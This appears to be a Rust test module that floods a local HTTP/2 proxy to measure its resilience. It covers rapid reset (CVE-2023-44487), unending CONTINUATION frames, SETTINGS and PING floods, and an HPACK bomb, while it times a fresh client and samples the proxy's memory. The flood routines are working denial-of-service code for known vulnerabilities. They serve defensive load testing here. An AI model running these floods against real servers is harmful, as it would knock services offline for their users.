//! HTTP/2 floods, each bounded in frames and time, with a fresh client
//! timed throughout: rapid reset (CVE-2023-44487), CONTINUATION without end
//! (CVE-2024-27316 and kin), SETTINGS and PING floods that never read the
//! acknowledgements, and an HPACK bomb (one large dynamic-table entry
//! referenced thousands of times).

use std::io::{Read, Write};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::h2raw::*;

/// What one flood did and what it cost the proxy.
#[derive(Debug, Clone)]
pub struct FloodReport {
    pub name: &'static str,
    /// Frames written before the proxy stopped reading or closed.
    pub frames_sent: u64,
    pub bytes_sent: u64,
    /// How the proxy ended the flooding connection, if it did.
    pub reaction: String,
    pub fresh: Fresh,
    pub rss_before_kib: u64,
    pub rss_peak_kib: u64,
}

/// A fresh client's latencies while the flood ran.
#[derive(Debug, Clone, Default)]
pub struct Fresh {
    pub requests: usize,
    pub failures: usize,
    pub p99_ms: f64,
    pub max_ms: f64,
}

/// Resident memory of `pid`, KiB (0 when unknown).
pub fn rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("VmRSS:"))
                .and_then(|l| l.split_whitespace().nth(1)?.parse().ok())
        })
        .unwrap_or(0)
}

/// Resident memory of `pid` and its child processes (nginx's workers), KiB.
pub fn tree_rss_kib(pid: u32) -> u64 {
    let children =
        std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
    std::iter::once(pid)
        .chain(children.split_whitespace().filter_map(|p| p.parse().ok()))
        .map(rss_kib)
        .sum()
}

/// One plain HTTP/1.1 GET on a new connection; its latency.
pub fn fresh_get(addr: SocketAddr, path: &str) -> Option<Duration> {
    let start = Instant::now();
    let mut s = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(2)).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(2))).ok()?;
    write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: fresh\r\nConnection: close\r\n\r\n"
    )
    .ok()?;
    let mut out = Vec::new();
    s.read_to_end(&mut out).ok()?;
    out.starts_with(b"HTTP/1.1 200").then(|| start.elapsed())
}

/// Times a fresh client every 20 ms, and samples `pid`'s RSS, until `stop`.
pub fn watch(
    plain: SocketAddr,
    path: String,
    pid: u32,
    stop: Arc<AtomicBool>,
) -> std::thread::JoinHandle<(Fresh, u64)> {
    std::thread::spawn(move || {
        let mut lat = Vec::new();
        let mut failures = 0;
        let mut peak = 0;
        // At least one fresh request and one memory sample, even when the
        // proxy ends a flood before this thread first looks.
        loop {
            match fresh_get(plain, &path) {
                Some(d) => lat.push(d.as_secs_f64() * 1000.0),
                None => failures += 1,
            }
            peak = peak.max(tree_rss_kib(pid));
            if stop.load(Ordering::Relaxed) {
                break;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        lat.sort_by(f64::total_cmp);
        let p99 = lat
            .get(((lat.len() as f64 * 0.99).ceil() as usize).saturating_sub(1))
            .copied()
            .unwrap_or(f64::NAN);
        let fresh = Fresh {
            requests: lat.len() + failures,
            failures,
            p99_ms: p99,
            max_ms: lat.last().copied().unwrap_or(f64::NAN),
        };
        (fresh, peak)
    })
}

/// The floods, by name.
pub const FLOODS: [&str; 5] = [
    "rapid reset",
    "CONTINUATION",
    "SETTINGS",
    "PING",
    "HPACK bomb",
];

/// Writes the frames of flood `name` to a new connection to `tls` for at most
/// `span`, reading (and dropping) whatever comes back so that only the
/// proxy's own limits stop it.
pub async fn flood(
    name: &'static str,
    tls: SocketAddr,
    authority: &str,
    span: Duration,
) -> (u64, u64, String) {
    let conn = match Conn::open(tls).await {
        Ok(c) => c,
        Err(e) => return (0, 0, format!("connect failed: {e}")),
    };
    let (mut rd, mut wr) = tokio::io::split(conn.into_inner());
    let goaway = Arc::new(AtomicU64::new(u64::MAX));
    let seen = goaway.clone();
    let reader = tokio::spawn(async move {
        let mut buf = vec![0u8; 64 * 1024];
        let mut pending: Vec<u8> = Vec::new();
        while let Ok(n) = rd.read(&mut buf).await {
            if n == 0 {
                break;
            }
            pending.extend_from_slice(&buf[..n]);
            while pending.len() >= 9 {
                let len = u32::from_be_bytes([0, pending[0], pending[1], pending[2]]) as usize;
                if pending.len() < 9 + len {
                    break;
                }
                if pending[3] == GOAWAY && len >= 8 {
                    let c =
                        u32::from_be_bytes([pending[13], pending[14], pending[15], pending[16]]);
                    seen.store(u64::from(c), Ordering::Relaxed);
                }
                pending.drain(..9 + len);
            }
        }
    });
    let a = authority.as_bytes();
    let deadline = Instant::now() + span;
    let (mut frames, mut bytes) = (0u64, 0u64);
    let mut batch = Vec::with_capacity(64 * 1024);
    let mut stream = 1u32;
    let mut ended = "kept reading to the end".to_string();
    if name == "CONTINUATION" {
        // The block never ends: HEADERS without END_HEADERS, then
        // CONTINUATION frames of fields that only add up.
        let first = block(&request(b"GET", b"/flood", a));
        batch.extend(frame(HEADERS, END_STREAM, 1, &first));
    }
    if name == "HPACK bomb" {
        // One 4000-byte entry in the dynamic table.
        let mut hb = block(&request(b"GET", b"/flood", a));
        literal_indexed(&mut hb, b"x-bomb", &[b'a'; 4000]);
        batch.extend(frame(HEADERS, END_STREAM, 1, &hb));
        stream = 3;
    }
    while Instant::now() < deadline && frames < 2_000_000 {
        let per_batch = 200;
        for _ in 0..per_batch {
            match name {
                "rapid reset" => {
                    let hb = block(&request(b"GET", b"/flood", a));
                    batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &hb));
                    batch.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
                    stream += 2;
                    frames += 2;
                }
                "CONTINUATION" => {
                    let mut hb = Vec::new();
                    for i in 0..150 {
                        literal(&mut hb, format!("x-c{i}").as_bytes(), &[b'c'; 100]);
                    }
                    batch.extend(frame(CONTINUATION, 0, 1, &hb));
                    frames += 1;
                }
                "SETTINGS" => {
                    batch.extend(frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]));
                    frames += 1;
                }
                "PING" => {
                    batch.extend(frame(PING, 0, 0, &frames.to_be_bytes()));
                    frames += 1;
                }
                _ => {
                    // Each block: the reference to entry 62, 4000 times,
                    // 16 MB of fields from 4 KB on the wire.
                    let mut hb = Vec::with_capacity(4100);
                    for (n, v) in request(b"GET", b"/flood", a) {
                        literal(&mut hb, n, v);
                    }
                    for _ in 0..4000 {
                        indexed(&mut hb, 62);
                    }
                    batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &hb));
                    stream += 2;
                    frames += 1;
                }
            }
            if stream > 0x7fff_0000 {
                break;
            }
        }
        bytes += batch.len() as u64;
        let write = tokio::time::timeout(Duration::from_secs(2), wr.write_all(&batch)).await;
        batch.clear();
        match write {
            Ok(Ok(())) => {}
            Ok(Err(e)) => {
                ended = format!("closed ({})", e.kind());
                break;
            }
            Err(_) => {
                ended = "stopped reading".to_string();
                break;
            }
        }
        if goaway.load(Ordering::Relaxed) != u64::MAX {
            break;
        }
    }
    let _ = tokio::time::timeout(Duration::from_secs(2), reader).await;
    let code = goaway.load(Ordering::Relaxed);
    if code != u64::MAX {
        ended = format!("GOAWAY {}", error_name(code));
    }
    (frames, bytes, ended)
}

fn error_name(code: u64) -> &'static str {
    match code {
        0 => "NO_ERROR",
        1 => "PROTOCOL_ERROR",
        2 => "INTERNAL_ERROR",
        6 => "FRAME_SIZE_ERROR",
        9 => "COMPRESSION_ERROR",
        11 => "ENHANCE_YOUR_CALM",
        _ => "other",
    }
}

/// Runs flood `name` for `span` while a fresh client is timed on `plain`.
pub async fn measured(
    name: &'static str,
    tls: SocketAddr,
    plain: SocketAddr,
    fresh_path: &str,
    pid: u32,
    span: Duration,
) -> FloodReport {
    let rss_before_kib = tree_rss_kib(pid);
    let stop = Arc::new(AtomicBool::new(false));
    let watcher = watch(plain, fresh_path.to_string(), pid, stop.clone());
    // Several connections at once, as an attacker would.
    let mut runs = Vec::new();
    for _ in 0..4 {
        runs.push(tokio::spawn(flood(name, tls, "localhost", span)));
    }
    let (mut frames_sent, mut bytes_sent, mut reactions) = (0, 0, Vec::new());
    for r in runs {
        if let Ok((f, b, why)) = r.await {
            frames_sent += f;
            bytes_sent += b;
            reactions.push(why);
        }
    }
    stop.store(true, Ordering::Relaxed);
    let (fresh, rss_peak_kib) = watcher.join().unwrap_or_default();
    reactions.dedup();
    FloodReport {
        name,
        frames_sent,
        bytes_sent,
        reaction: reactions.join("; "),
        fresh,
        rss_before_kib,
        rss_peak_kib,
    }
}
